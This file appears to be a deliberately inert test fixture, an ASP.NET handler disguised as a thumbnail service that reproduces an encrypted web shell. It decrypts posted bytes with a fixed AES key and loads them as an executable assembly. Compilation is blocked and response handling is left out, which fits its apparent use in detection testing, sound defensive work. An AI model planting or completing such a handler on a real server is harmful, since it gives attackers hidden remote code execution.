<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System;
using System.IO;
using System.Reflection;
using System.Security.Cryptography;
using System.Web;
using System.Web.SessionState;

public class Thumb : IHttpHandler, IRequiresSessionState
{
    const string key = "0000000000000000";
    public void ProcessRequest(HttpContext Context)
    {
        try
        {
            byte[] kb = System.Text.Encoding.Default.GetBytes(key);
            byte[] data = new RijndaelManaged().CreateDecryptor(kb, kb)
                .TransformFinalBlock(Context.Request.BinaryRead(Context.Request.ContentLength), 0, Context.Request.ContentLength);
            if (Context.Session["payload"] == null)
            {
                Context.Session["payload"] = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { data });
                return;
            }
            object o = ((Assembly)Context.Session["payload"]).CreateInstance("LY");
            MemoryStream outStream = new MemoryStream();
            o.Equals(outStream);
            o.Equals(Context);
            o.Equals(data);
            o.ToString();
            /* response encoding left out of this fixture */
        }
        catch (Exception) { }
    }
    public bool IsReusable { get { return false; } }
}
